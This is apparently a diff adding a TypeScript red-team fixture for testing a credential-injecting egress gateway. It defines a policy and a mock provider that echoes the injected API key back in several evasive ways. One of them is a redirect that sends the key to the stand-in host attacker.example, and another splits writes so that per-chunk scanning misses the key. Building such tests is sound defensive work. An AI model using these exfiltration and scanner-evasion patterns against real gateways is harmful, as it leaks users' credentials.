@@ -1,0 +1,119 @@
+// The hosts of the pretend internet that the attacks are about, and the policy of the gateway under attack. Names that are not
+// allowed are pinned to the pretend internet too: what slips past the door arrives there and is seen.
+import { gzipSync } from 'node:zlib';
+import { type PretendHost, type PretendResponse, reply, type SeenRequest } from '../pretend-world.ts';
+
+/** Allowed; its credential goes to /v1/** only. Sends back what it was sent. */
+export const providerHost = 'api.provider.example';
+/** Allowed, without any credential. */
+export const plainHost = 'plain.example';
+/** Allowed: `*.wild.example`. */
+export const wildApex = 'wild.example';
+/** Allowed undecrypted. */
+export const tunnelHost = 'pinned.example';
+/** Not allowed. */
+export const foreignHost = 'attacker.example';
+/** Allowed by name, but it leads to the gateway's own machine. */
+export const inwardHost = 'localhost';
+
+export const ownRepository = 'acme/widgets';
+export const foreignRepository = 'other/private';
+export const neighbourRepository = 'neighbour/garden';
+
+export interface PolicyParts {
+  /** Address of the pretend internet. */
+  readonly world: string;
+  readonly caFile: string;
+  readonly credentialFiles: Readonly<Record<'github' | 'provider', string>>;
+  readonly servicePort: number;
+}
+
+/** The document of the gateway under attack. */
+export function redteamPolicy({ world, caFile, credentialFiles, servicePort }: PolicyParts): Record<string, unknown> {
+  const pinned = [
+    providerHost,
+    plainHost,
+    `*.${wildApex}`,
+    wildApex,
+    tunnelHost,
+    foreignHost,
+    `*.${foreignHost}`,
+    'github.com',
+    'api.github.com',
+    'uploads.github.com',
+  ];
+  return {
+    version: 1,
+    listen: { proxy: '127.0.0.1:0' },
+    allow: [
+      { preset: 'github' },
+      { host: providerHost },
+      { host: plainHost, ports: [443, 80], plain_http: true },
+      { host: `*.${wildApex}` },
+      { host: tunnelHost, tunnel: true },
+      { host: inwardHost, ports: [servicePort], plain_http: true },
+    ],
+    credentials: {
+      github: { source: { file: credentialFiles.github } },
+      provider: {
+        hosts: [providerHost],
+        paths: ['/v1/**'],
+        inject: { header: 'x-api-key' },
+        source: { file: credentialFiles.provider },
+      },
+    },
+    upstream: { resolve: Object.fromEntries(pinned.map((name) => [name, world])), ca: caFile },
+  };
+}
+
+/** The paths under which the provider sends the credential back, each in another way. */
+export const echoPaths = {
+  header: '/v1/echo-header',
+  body: '/v1/echo-body',
+  gzip: '/v1/echo-gzip',
+  split: '/v1/echo-split',
+  error: '/v1/echo-error',
+  redirect: '/v1/echo-redirect',
+  socket: '/v1/echo-socket',
+} as const;
+
+export const provider: PretendHost = {
+  serve(request, response, seen) {
+    request.on('end', () => echo(response, seen, String(request.headers['x-api-key'] ?? 'no key came')));
+  },
+  upgrade(request, socket) {
+    const key = String(request.headers['x-api-key'] ?? 'no key came');
+    // RFC 6455 4.2.2: the fixed answer is not checked by the attacker, which reads bytes.
+    socket.write('HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n');
+    socket.write('Sec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n\r\n');
+    socket.write(Buffer.concat([Buffer.from([0x81, key.length]), Buffer.from(key)]));
+  },
+};
+
+function echo(response: PretendResponse, { url, method }: SeenRequest, key: string): void {
+  switch (url) {
+    case echoPaths.header:
+      reply(response, 200, { ok: true }, { 'x-you-sent': key });
+      return;
+    case echoPaths.body:
+      reply(response, 200, { headers: { 'x-api-key': key } });
+      return;
+    case echoPaths.gzip:
+      reply(response, 200, gzipSync(JSON.stringify({ key })), { 'content-encoding': 'gzip' });
+      return;
+    case echoPaths.error:
+      reply(response, 401, { error: `the key ${key} is not valid` });
+      return;
+    case echoPaths.redirect:
+      reply(response, 302, undefined, { location: `https://${foreignHost}/?key=${key}` });
+      return;
+    case echoPaths.split:
+      // In two writes, so that a search of each chunk by itself finds nothing.
+      response.writeHead(200, { 'content-type': 'text/plain' });
+      response.write(`you sent ${key.slice(0, 20)}`);
+      setTimeout(() => response.end(`${key.slice(20)}\n`), 50);
+      return;
+    default:
+      reply(response, 200, { reached: providerHost, method, url });
+  }
+}
